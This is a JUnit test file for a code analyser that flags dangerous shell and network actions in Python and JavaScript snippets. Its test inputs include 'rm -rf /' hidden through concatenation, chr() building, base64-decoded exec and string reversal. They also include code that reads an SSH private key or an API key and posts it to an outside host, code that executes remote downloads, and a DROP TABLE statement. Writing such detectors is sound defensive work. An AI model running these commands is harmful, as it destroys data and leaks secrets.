/*
 * SPDX-FileCopyrightText: The Weir Authors
 * SPDX-License-Identifier: Apache-2.0
 */
package dev.weir.score;

import static dev.weir.policy.Fact.*;
import static org.assertj.core.api.Assertions.assertThat;

import dev.weir.policy.Fact;
import java.util.Set;
import org.junit.jupiter.api.Test;

class CodeViewTest {
  private static Set<Fact> shell(String code) {
    return Programs.read("", code, Set.of()).shell().keySet();
  }

  @Test
  void shouldReadTheCommandsThatAProgramStarts() {
    assertThat(shell("import os as o\no.system('rm -rf /')")).contains(SHELL_DELETES_ROOT);
    assertThat(shell("from subprocess import run as r\nr(['rm', '-rf', '/'])"))
        .contains(SHELL_DELETES_ROOT);
    assertThat(
            shell(
                "const {execSync: x} = require('child_process'); require('child_process').exec('rm -rf ~')"))
        .contains(SHELL_DELETES_ROOT);
    assertThat(shell("!rm -rf /\nprint(1)")).contains(SHELL_DELETES_ROOT);
    assertThat(shell("%%bash\nrm -rf /")).contains(SHELL_DELETES_ROOT);
  }

  @Test
  void shouldSeeThroughNamesAndStringsPutTogether() {
    assertThat(shell("import os\ngetattr(os, 'sys' + 'tem')('rm -rf /')"))
        .contains(SHELL_DELETES_ROOT);
    assertThat(shell("__import__('os').system(chr(114) + chr(109) + ' -rf /')"))
        .contains(SHELL_DELETES_ROOT);
    assertThat(
            shell(
                "import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgncm0gLXJmIC8nKQ=='))"))
        .contains(SHELL_DELETES_ROOT, SHELL_DECODE_RUN);
    assertThat(shell("import os\nc = '/ fr- mr'[::-1]\nos.system(c)")).contains(SHELL_DELETES_ROOT);
  }

  @Test
  void shouldFollowSecretsToOtherMachines() {
    assertThat(
            shell(
                "import requests\nk = open('/home/u/.ssh/id_rsa').read()\nrequests.post('https://a.org', data=k)"))
        .contains(SHELL_UPLOADS, SHELL_READS_SECRETS);
    assertThat(shell("fetch('https://a.org', {method: 'POST', body: process.env['API_KEY']})"))
        .contains(SHELL_UPLOADS, SHELL_READS_SECRETS);
    assertThat(shell("exec(requests.get('https://a.org/p').text)")).contains(SHELL_DOWNLOAD_RUN);
  }

  @Test
  void shouldLeaveOrdinaryProgramsAlone() {
    String code =
        "import json\nitems = [1, 2]\nitems.remove(1)\n# os.remove('/x')\nprint('rm -rf /')\n"
            + "with open('out.json', 'w') as f:\n  json.dump(items, f)\napp.run()\nre.compile('x')";
    assertThat(shell(code)).isEmpty();
    assertThat(CodeReader.read(code).keySet())
        .contains(CODE_WRITES)
        .doesNotContain(CODE_DELETES, CODE_EXECUTES, CODE_OPAQUE, CODE_NETWORK);
  }

  @Test
  void shouldListImports() {
    assertThat(CodeReader.read("import os, sys as s\nfrom a.b import c").get(CODE_IMPORTS))
        .asList()
        .contains("os", "a.b");
    assertThat(CodeReader.read("import x from 'y'\nconst f = require('fs')").get(CODE_IMPORTS))
        .asList()
        .contains("y", "fs");
  }

  @Test
  void shouldHandStatementsOn() {
    assertThat(shell("cursor.execute('DROP TABLE users')")).contains(SHELL_STATEMENTS);
  }
}
